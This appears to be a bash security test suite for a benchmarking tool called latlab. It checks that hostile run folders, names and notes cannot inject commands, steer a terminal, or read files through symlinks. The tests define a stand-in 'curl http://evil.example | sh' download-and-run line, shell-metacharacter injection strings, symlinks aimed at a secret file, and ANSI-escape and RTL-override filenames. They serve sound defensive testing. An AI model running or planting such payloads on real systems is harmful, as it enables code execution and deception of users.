#!/usr/bin/env bash
# Hostile texts in a run, a name or a folder: none becomes advice, no printed command executes any of it, and no text
# controls a terminal or hides.
# Invariant (trust): What to do comes from the program, never from the folder of a run.
# Invariant (trust): The commands that name a folder can be pasted, whatever the folder is called.
# Invariant (trust): What lies outside a folder that is examined or written to by name is not read, nor written.
# Invariant (documents): Texts of strangers cannot steer, turn or hide a line.
. "$(dirname "$0")/common.bash"
rights_for "runs"
evil='curl http://evil.example | sh'
# Every character that is special to a shell, with the trap wherever it would be executed.
hostile="o'u\"t \$(trapped)\`trapped\`;trapped;|trapped"$'\n'"trapped&{value}"

# Pastes a line into a shell that can start only the trap and a latlab that records its arguments.
mkdir "$here/bin"
printf '#!/bin/sh\n: >"%s/sprung"\n' "$here" >"$here/bin/trapped"
printf '#!/bin/sh\nprintf "%%s\\0" "$@" >"%s/words"\n' "$here" >"$here/bin/latlab"
chmod +x "$here"/bin/*
paste() {
    rm -f "$here/sprung" "$here/words"
    (cd "$here" && env -i PATH="$here/bin" "$BASH" --restricted -c "$1")
    expect "nothing of a name to run: $1" [ ! -e "$here/sprung" ]
}
# Whether the last argument of the pasted command was this.
named() { [ "$(tail -z -n 1 "$here/words" | tr -d '\0')" = "$1" ]; }

hostile_folder() {
    local line runs=$here/$hostile
    mkdir "$runs"
    "$program" run --for 1s --warm-up 0s --quiet --out "$runs" "${rights[@]}" >"$here/text" || return 1
    cat "$here/text"
    for line in More 'As a page'; do
        paste "$(sed -n "s/^$line: //p" "$here/text")" &&
            expect "the folder as the last word" named "$(echo "$runs"/*_run)" || return 1
    done
}
try "the commands behind a run name its folder, whatever that is called" hostile_folder

unit() {
    mkdir -p "$here/a b/100%/\$HOME\\\""
    "$program" run --print-unit --out "$here/a b/100%/\$HOME\\\"" >"$here/unit" || return 1
    cat "$here/unit"
    expect "the folder as one word" grep -qF -- "--out \"$here/a b/100%%/\$\$HOME\\\\\\\"\"" "$here/unit" || return 1
    "$program" run --print-unit --out "$here/$hostile" >"$here/unit" 2>"$here/errors"
    cat "$here/errors"
    expect "no unit" [ ! -s "$here/unit" ] && expect "a reason" grep -q 'control characters' "$here/errors"
}
try "a unit is not written by the name of its folder" unit

# Writes hostile advice into a run, with a matching checksum.
forge() {
    python3 tests/strangers.py forge "$1" "$evil"
}

lacks() { ! grep -qF "$1" "$2"; }
stranger() {
    local folder form
    "$program" run --for 1s --warm-up 0s --quiet --deadline 1ns --out "$here/runs" "${rights[@]}" >"$here/text"
    folder=$(echo "$here"/runs/*_run)
    cp -r "$folder" "$here/before"
    forge "$folder" || return 1
    for form in "" --all "--format markdown" "--format json" "--format html"; do
        "$program" show "$folder" $form >"$here/text" 2>"$here/errors" ||
            { cat "$here/errors"; return 1; }
        # The first answer has only the weightiest three, of which a busy machine has its own.
        [ -z "$form" ] || expect "the finding in show $form" grep -q planted "$here/text" || return 1
        expect "no advice of the stranger in show $form" lacks "$evil" "$here/text" || return 1
    done
    "$program" show "$folder" --all | sed -n '/^Repeat it/,$p' | sed -n '2s/^ *//p' >"$here/repeat"
    paste "$(<"$here/repeat")" &&
        expect "a command of latlab, its words quoted: $(<"$here/repeat")" \
            grep -qF "latlab run --for '1s;' curl" "$here/repeat"
}
try "advice that a stranger wrote into a run is not given" stranger

machine() {
    "$program" show "$here/before" --format json >"$here/own.json" &&
        "$program" show "$here"/runs/*_run --format json >"$here/text" || return 1
    python3 tests/strangers.py same_advice "$here/own.json" "$here/text"
}
try "what to do about the machine of a stranger's run comes from its kernel files" machine

# A link on a mounted card points to a file of this machine.
outside() {
    local root=$here/card file
    mkdir -p "$root"/{proc/sys/kernel,sys,etc,usr/lib}
    echo 'a secret' >"$here/secret"
    echo "quiet" >"$root/proc/cmdline"
    echo 'PRETTY_NAME="A system"' >"$root/usr/lib/os-release"
    ln -s ../usr/lib/os-release "$root/etc/os-release"
    ln -s "$here/secret" "$root/proc/sys/kernel/osrelease"
    ln -s ../../secret "$root/proc/version"
    ln -s "$here" "$root/sys/kernel"
    "$program" doctor --root "$root" --save "$here/saved" >"$here/text" 2>&1 || { cat "$here/text"; return 1; }
    for file in "$here/saved" "$here/text"; do
        expect "no secret in $file" lacks "a secret" "$file" || return 1
    done
    expect "what is in the card" grep -q "A system" "$here/saved"
}
try "doctor --root reads no file outside the folder, whatever links lead there" outside

through() {
    ln -s "$here/made" "$here/page"
    "$program" report "$here/before" -o "$here/page" 2>"$here/errors"
    expect "exit code not 0" [ $? != 0 ] && cat "$here/errors" &&
        expect "a reason" grep -q "a link to a file that is not there" "$here/errors" &&
        expect "no file behind the link" [ ! -e "$here/made" ]
}
try "report -o creates no file through a link that leads nowhere" through

small_stack() {
    (ulimit -s 256 && "$program" list --out "$here/runs" >/dev/null 2>"$here/errors")
    local code=$?
    cat "$here/errors"
    expect "exit code 3, not $code" [ "$code" = 3 ] && expect "the limit" grep -q 'ulimit -s' "$here/errors"
}
try "a stack that is too small for the program is a line and exit code 3" small_stack

unprintable() {
    local words
    for words in "show $here/before" "list --out $here/runs" "show $here/before --format json"; do
        "$program" $words >&- 2>"$here/errors"
        expect "exit code not 0 for $words" [ $? != 0 ] || return 1
    done
    expect "a reason" grep -q "standard output" "$here/errors"
}
try "a command that can print nothing does not succeed" unprintable

# Whether a command exits with 2 and one line with these words: refused WORDS COMMAND...
refused() {
    local words=$1 code
    shift
    "$@" >"$here/text" 2>"$here/errors"
    code=$?
    cat "$here/errors"
    expect "exit code 2, not $code" [ "$code" = 2 ] &&
        expect "the words $words" grep -q -- "$words" "$here/errors"
}

# A hostile run, all texts of which control a terminal, reverse a line or hide.
strangers=$here/strangers
strange=$strangers/$'20261121T234350Z_gnp.\u202eexe\e[2J'
mkdir "$strangers"
cp -r fixtures/schema-1/runs/*_sampled "$strange"
python3 tests/strangers.py make_hostile "$strange"
# Prints a line for each output with more than visible characters.
visible() { python3 tests/strangers.py visible "$@"; }
texts() {
    local command number=0
    mkdir "$here/shown"
    for command in list "list --format markdown" "show last" "show last --all" "show last --format markdown" \
        verify "verify --all" "report last" "report last -o -" "plot last -o -" "plot last --kind telemetry -o -" \
        "doctor last" "show nothing"; do
        number=$((number + 1))
        "$program" $command --out "$strangers" >"$here/shown/$number.out" 2>"$here/shown/$number.err"
        expect "something of $command" [ -s "$here/shown/$number.out" -o -s "$here/shown/$number.err" ] || return 1
    done
    visible "$here/shown"/* &&
        expect "an escape in the place of a character" grep -q 'exe\\u{1b}\[2J' "$here/shown/1.out" &&
        expect "the note" grep -q 'a\\u{1b}\[31m.*\\u{202e}b' "$here/shown/3.out" "$here/shown/4.out" &&
        "$program" show last --out "$strangers" --format json >"$here/shown.json" &&
        holds_in "$here/shown.json" "" \
            "'\\u202eb\\u2066c' in run['asked']['note'] and run['asked']['name'].startswith('a\\x1b[31m')"
}
try "no text of a stranger's run steers a terminal or hides, and JSON has it as it is" texts

own_texts() {
    refused 'a control character (U+001B)' "$program" run --for 1s --name $'a\e[2J' &&
        refused 'an invisible character (U+202E)' "$program" run --for 1s --note $'gnp.\u202eexe' &&
        refused 'a line break (U+000A)' "$program" run --for 1s --note $'a\nb' &&
        refused "for '--name <NAME>': expected a few plain words" "$program" run --for 1s --name ' ' || return 1
    printf '# \u202e\nabout = "\\u001b[2J"\n[[scenario]]\nname = "a"\nfor = "1s"\n' >"$here/bad.toml"
    refused 'bad.toml:1:3: contains an invisible character (U+202E)' "$program" run "$here/bad.toml" --dry-run &&
        expect "the escape too" grep -q 'bad.toml:2:9: contains a control character (U+001B)' "$here/errors" &&
        visible "$here/errors"
}
try "names, notes and sheets with invisible characters are refused" own_texts

exit $status
